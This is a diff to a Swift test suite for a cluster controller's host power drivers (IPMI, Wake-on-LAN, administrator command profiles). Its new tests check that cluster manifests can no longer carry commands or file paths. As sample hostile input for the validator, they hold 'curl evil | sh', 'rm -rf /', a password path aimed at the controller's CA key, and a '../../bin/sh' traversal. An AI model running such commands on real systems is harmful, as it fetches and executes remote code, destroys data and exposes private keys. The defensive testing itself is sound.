@@ -36,33 +36,87 @@ import Testing
     }
 
     @Test func ipmiCommandLines() throws {
-        let h = host("ipmi", ["address": "10.1.1.7", "username": "admin", "passwordFile": "/etc/vsphere/bmc.pw"])
-        let on = try #require(try PowerDrivers.command(true, h))
+        let config = PowerConfig(credentials: ["bmc": "/etc/vsphere/bmc.pw"])
+        let h = host("ipmi", ["address": "10.1.1.7", "username": "admin", "credential": "bmc"])
+        let on = try #require(try PowerDrivers.command(true, h, config))
         #expect(on.0 == "ipmitool")
         #expect(on.1 == ["-I", "lanplus", "-H", "10.1.1.7", "-U", "admin", "-f", "/etc/vsphere/bmc.pw", "chassis", "power", "on"])
-        let off = try #require(try PowerDrivers.command(false, host("ipmi", ["address": "10.1.1.7", "interface": "lan"])))
+        let off = try #require(try PowerDrivers.command(false, host("ipmi", ["address": "10.1.1.7", "interface": "lan"]), config))
         #expect(off.1 == ["-I", "lan", "-H", "10.1.1.7", "-E", "chassis", "power", "soft"], "ACPI soft-off; the password from IPMI_PASSWORD")
+        #expect(PowerDrivers.can(true, host("ipmi", ["address": "10.1.1.7", "credential": "other"]), config) == "no credential other in the controller's power configuration")
     }
 
     @Test func whatEachDriverCanDo() {
-        #expect(PowerDrivers.can(true, host("wol", ["mac": "52:54:00:ab:cd:ef"])) == nil)
-        #expect(PowerDrivers.can(false, host("wol", ["mac": "52:54:00:ab:cd:ef"]))?.contains("cannot power a host off") == true)
-        #expect(PowerDrivers.can(false, host("wol", ["mac": "52:54:00:ab:cd:ef", "off": "true"])) == nil)
-        #expect(PowerDrivers.can(true, host("none", [:])) != nil)
-        #expect(PowerDrivers.can(true, ClusterManifest.Host(name: "x")) == "no power driver")
+        let config = PowerConfig(commands: ["pdu": .init(on: ["/usr/local/sbin/pdu", "on"])])
+        #expect(PowerDrivers.can(true, host("wol", ["mac": "52:54:00:ab:cd:ef"]), config) == nil)
+        #expect(PowerDrivers.can(false, host("wol", ["mac": "52:54:00:ab:cd:ef"]), config)?.contains("cannot power a host off") == true)
+        #expect(PowerDrivers.can(false, host("wol", ["mac": "52:54:00:ab:cd:ef", "off": "pdu"]), config) == "command profile pdu has no off command")
+        #expect(PowerDrivers.can(true, host("command", ["profile": "pdu"]), config) == nil)
+        #expect(PowerDrivers.can(true, host("command", ["profile": "nope"]), config) == "no command profile nope in the controller's power configuration")
+        #expect(PowerDrivers.can(true, host("none", [:]), config) != nil)
+        #expect(PowerDrivers.can(true, ClusterManifest.Host(name: "x"), config) == "no power driver")
     }
 
-    /// The operator's commands run through /bin/sh with the host's name in the environment only: a
-    /// hostile name would never be parsed as shell.
-    @Test func commandDriverRunsTheOperatorsScript() async throws {
+    /// The administrator's programs run without a shell, with the host's name in the environment only.
+    @Test func commandDriverRunsTheAdministratorsProgram() async throws {
         let dir = FileManager.default.temporaryDirectory.appendingPathComponent("power-\(getpid())")
         try FileManager.default.createDirectory(at: dir, withIntermediateDirectories: true)
         defer { try? FileManager.default.removeItem(at: dir) }
         let log = dir.appendingPathComponent("log").path
-        let h = host("command", ["on": "echo \"on $VSPHERE_POWER_HOST $VSPHERE_POWER_AGENT_URL\" >> \(log)", "off": "echo off >> \(log); exit 3"])
-        _ = try await PowerDrivers.run(true, h)
+        let script = dir.appendingPathComponent("switch").path
+        try "#!/bin/sh\necho \"$1 $VSPHERE_POWER_HOST $VSPHERE_POWER_AGENT_URL\" >> \(log)\n[ \"$1\" = on ]\n".write(toFile: script, atomically: true, encoding: .utf8)
+        chmod(script, 0o755)
+        let config = PowerConfig(commands: ["lab": .init(on: [script, "on"], off: [script, "off"])])
+        let h = host("command", ["profile": "lab"])
+        _ = try await PowerDrivers.run(true, h, config)
         #expect(try String(contentsOfFile: log, encoding: .utf8) == "on h7 https://10.0.0.7:7443\n")
-        await #expect(throws: Spawn.Failure.self) { _ = try await PowerDrivers.run(false, h) }
+        await #expect(throws: Spawn.Failure.self) { _ = try await PowerDrivers.run(false, h, config) }
+    }
+
+    /// A manifest can no longer carry programs or files for the controller: each old option is refused
+    /// with the reason, naming its field.
+    @Test func manifestsCarryNoCommandsNorFiles() {
+        func problems(_ power: ClusterManifest.Power) -> [String] {
+            ClusterManifest(hosts: [ClusterManifest.Host(name: "h1", power: power)]).validate().map(\.description)
+        }
+        let shell = problems(.init(driver: "command", options: ["on": "curl evil | sh", "off": "rm -rf /"]))
+        #expect(shell.contains { $0.hasPrefix("hosts[0].power.on: a manifest carries no commands") }, "\(shell)")
+        #expect(shell.contains { $0.hasPrefix("hosts[0].power.off: a manifest carries no commands") }, "\(shell)")
+        #expect(shell.contains("hosts[0].power.profile: is required by the command driver"), "\(shell)")
+        let file = problems(.init(driver: "ipmi", options: ["address": "10.0.0.9", "passwordFile": "/var/lib/vsphere/controller/pki/ca.key"]))
+        #expect(file.contains { $0.hasPrefix("hosts[0].power.passwordFile: a manifest names no file the controller reads") }, "\(file)")
+        let script = problems(.init(driver: "testbed", options: ["host": "h1", "script": "/tmp/x.sh"]))
+        #expect(script.contains { $0.hasPrefix("hosts[0].power.script: the testbed script is the controller's") }, "\(script)")
+        #expect(problems(.init(driver: "command", options: ["profile": "../../bin/sh"])).contains { $0.hasPrefix("hosts[0].power.profile: must name an entry") })
+        #expect(problems(.init(driver: "command", options: ["profile": "pdu"])).isEmpty)
+    }
+
+    /// The configuration runs as the controller: it must be the administrator's, and say only absolute paths.
+    @Test func powerConfigurationMustBeTheAdministrators() throws {
+        let dir = FileManager.default.temporaryDirectory.appendingPathComponent("power-config-\(getpid())")
+        try FileManager.default.createDirectory(at: dir, withIntermediateDirectories: true)
+        defer { try? FileManager.default.removeItem(at: dir) }
+        let path = dir.appendingPathComponent("power.json").path
+        func load(_ text: String, mode: mode_t = 0o600, owner: uid_t? = nil) -> String? {
+            unlink(path)
+            try? text.write(toFile: path, atomically: false, encoding: .utf8)
+            chmod(path, mode)
+            if let owner { chown(path, owner, owner) }
+            do {
+                _ = try PowerConfig.load(path: path, required: true)
+                return nil
+            } catch {
+                return error.description
+            }
+        }
+        #expect(load(#"{"commands":{"pdu":{"on":["/usr/local/sbin/pdu","on"]}},"credentials":{"bmc":"/etc/vsphere/bmc.pw"}}"#) == nil)
+        #expect(load("{}", mode: 0o666)?.contains("writable by group or others") == true)
+        #expect(load("{}", owner: 65534)?.contains("owned by uid 65534") == true)
+        #expect(load(#"{"commands":{"pdu":{"on":["pdu","on"]}}}"#)?.contains("commands.pdu.on: must start with an absolute program path") == true)
+        #expect(load(#"{"credentials":{"bmc":"bmc.pw"}}"#)?.contains("credentials.bmc: must be an absolute path") == true)
+        #expect(load(#"{"testbedScript":"/x","shell":"/bin/sh"}"#)?.contains("shell: unknown field") == true)
+        #expect(try PowerConfig.load(path: dir.appendingPathComponent("absent.json").path, required: false) == PowerConfig())
+        #expect(throws: PowerConfig.Problem.self) { try PowerConfig.load(path: dir.appendingPathComponent("absent.json").path, required: true) }
     }
 
     /// A command that leaves a background process holding its output returns when it exits; one that
